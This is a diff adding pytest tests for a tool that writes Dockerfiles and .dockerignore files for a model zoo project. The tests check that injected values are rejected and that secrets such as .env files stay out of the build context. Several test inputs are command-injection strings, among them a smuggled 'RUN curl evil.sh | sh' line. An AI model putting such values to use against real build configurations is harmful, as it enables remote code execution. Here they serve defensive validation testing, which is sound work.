@@ -104,3 +104,50 @@ def test_bad_input_names_the_flag(ctx, kwargs, message):
     assert message in str(e.value)
     assert isinstance(e.value, ValueError)
     assert not (ctx / "Dockerfile").exists()
+
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("extra_pypi_index", "https://host/simple\nRUN curl evil.sh | sh"),
+        ("extra_pypi_index", "https://host/simple\r"),
+        ("extra_pypi_index", "https://host/simple --trusted-host evil"),
+        ("base_image", "python:3.11\nRUN id"),
+        ("model_zoo", "model_zoo\nRUN id"),
+    ],
+)
+def test_values_that_would_break_out_of_their_line_are_refused(ctx, field, value):
+    with pytest.raises(ZooInitError, match=f"--{field}=.* contains (control characters|spaces)") as e:
+        init_model_zoo(ZooInitConfig(**{"model_zoo": "model_zoo", field: value}), ctx)
+    assert "\n" not in str(e.value)
+    assert not (ctx / "Dockerfile").exists() and not (ctx / ".dockerignore").exists()
+
+
+def test_dockerignore_keeps_secrets_out_and_a_users_own_is_kept(ctx):
+    init_model_zoo(ZooInitConfig(model_zoo="model_zoo"), ctx)
+    ignored = (ctx / ".dockerignore").read_text().splitlines()
+    for pattern in ("**/.env", "**/.env.*", "**/.git", "**/__pycache__"):
+        assert pattern in ignored
+    (ctx / ".dockerignore").write_text("mine\n")
+    init_model_zoo(ZooInitConfig(model_zoo="model_zoo"), ctx)
+    assert (ctx / ".dockerignore").read_text() == "mine\n"
+
+
+def test_dockerignore_patterns_exclude_env_files_as_docker_matches_them(ctx):
+    # Docker's rule: "**" matches any number of directories, zero included.
+    import fnmatch
+
+    init_model_zoo(ZooInitConfig(model_zoo="model_zoo"), ctx)
+    patterns = [
+        p for p in (ctx / ".dockerignore").read_text().splitlines() if p and not p.startswith("#")
+    ]
+
+    def ignored(path):
+        return any(
+            fnmatch.fnmatch(path, p) or (p.startswith("**/") and fnmatch.fnmatch(path, p[3:]))
+            for p in patterns
+        )
+
+    for path in (".env", ".env.local", "model_zoo/.env", "model_zoo/mnist/.env.prod", ".git"):
+        assert ignored(path), path
+    assert not ignored("model_zoo/mnist/model.py")
